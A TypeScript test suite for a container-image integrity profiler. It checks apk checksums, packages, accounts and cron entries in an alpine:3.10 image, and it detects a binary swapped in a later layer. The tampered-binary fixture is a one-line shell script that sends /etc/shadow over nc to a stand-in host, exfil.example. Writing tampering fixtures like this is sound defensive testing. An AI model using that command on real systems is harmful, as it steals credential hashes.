import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { join } from 'node:path';
import { importImageArchive, type ImportedImage } from '@dhi/image';
import { type BuildProfile } from '../src/index.js';
import { corporaDir, profileOf, storeLayers, temporaryStore } from './support/image-fixtures.js';

// musl-utils' record in the image's /lib/apk/db/installed: `F:usr/bin`, `R:getent`, `Z:Q12ASphvYXmXmgv+u6jV17OFOJ5iM=`
const GETENT_SHA1 = Buffer.from('2ASphvYXmXmgv+u6jV17OFOJ5iM=', 'base64').toString('hex');
const FAKE_GETENT = '#!/bin/sh\ncat /etc/shadow | nc exfil.example 80\n';

describe('profile of the real alpine:3.10 image', () => {
  const { store, dispose } = temporaryStore();
  let image: ImportedImage;
  let profile: BuildProfile;

  beforeAll(async () => {
    image = await importImageArchive(createReadStream(join(corporaDir(), 'images', 'alpine-310.tar.gz')), store);
    ({ profile } = await profileOf(store, image.layers, { config: image.config }));
  });
  afterAll(dispose);

  it('verifies the apk checksums of its system files and finds none modified (the /etc/shadow it edits is configuration)', () => {
    expect(profile.integrity.modifiedPackageFiles).toEqual([]);
    expect(profile.integrity.unownedSystemExecutables).toEqual([]);
    expect(profile.integrity.verifiedFiles).toBeGreaterThan(20);
    expect(profile.integrity.unverifiable).toBe(0);
  });

  it('has its packages, owned executables, accounts, config, layers and busybox crontab', () => {
    expect(profile.os).toEqual({ id: 'alpine', versionId: '3.10.4' });
    expect(profile.packages.find((pkg) => pkg.name === 'musl-utils')).toEqual({ name: 'musl-utils', version: '1.1.22-r3', ecosystem: 'apk', source: 'musl', location: '/lib/apk/db/installed' });
    expect(profile.executables.find((executable) => executable.path === '/usr/bin/getent')?.owner).toBe('musl-utils');
    expect(profile.executables.every((executable) => executable.owner !== null && executable.sha256 !== null)).toBe(true);
    expect(profile.users.find((user) => user.name === 'root')).toEqual({ name: 'root', uid: 0, gid: 0, home: '/root', shell: '/bin/ash' });
    expect(profile.groups.find((group) => group.name === 'wheel')?.members).toEqual(['root']);
    expect(profile.config).toMatchObject({ cmd: ['/bin/sh'], envKeys: ['PATH'], user: null });
    expect(profile.layers).toEqual(image.layers.map((layer) => ({ digest: layer.digest, size: layer.size })));
    expect(profile.persistence.cron).toContain('/etc/crontabs/root: */15 * * * * run-parts /etc/periodic/15min');
    // /tmp and /var/tmp are 1777: world-writable with the sticky bit, as they should be
    expect(profile.worldWritable).toEqual([]);
  });

  it('reports a real package binary that a later layer replaced, with its package and both sha1s', async () => {
    const [extra] = await storeLayers(store, [[{ name: 'usr/bin/getent', data: FAKE_GETENT, mode: 0o755 }]]);
    const { profile: replaced } = await profileOf(store, [...image.layers, extra], { config: image.config });
    expect(replaced.integrity.modifiedPackageFiles).toEqual([
      { path: '/usr/bin/getent', package: 'musl-utils', expected: GETENT_SHA1, actual: createHash('sha1').update(FAKE_GETENT).digest('hex'), algorithm: 'sha1' },
    ]);
  });

  it('ignores an edited configuration file but not a protected_paths.d list that claims /usr/bin', async () => {
    const [extra] = await storeLayers(store, [
      [
        { name: 'etc/securetty', data: 'console\n' },
        { name: 'etc/apk/protected_paths.d/hide.list', data: '+usr/bin\n' },
        { name: 'usr/bin/getent', data: FAKE_GETENT, mode: 0o755 },
      ],
    ]);
    const { profile: edited } = await profileOf(store, [...image.layers, extra], { config: image.config });
    expect(edited.integrity.modifiedPackageFiles.map((file) => file.path)).toEqual(['/usr/bin/getent']);
  });
});
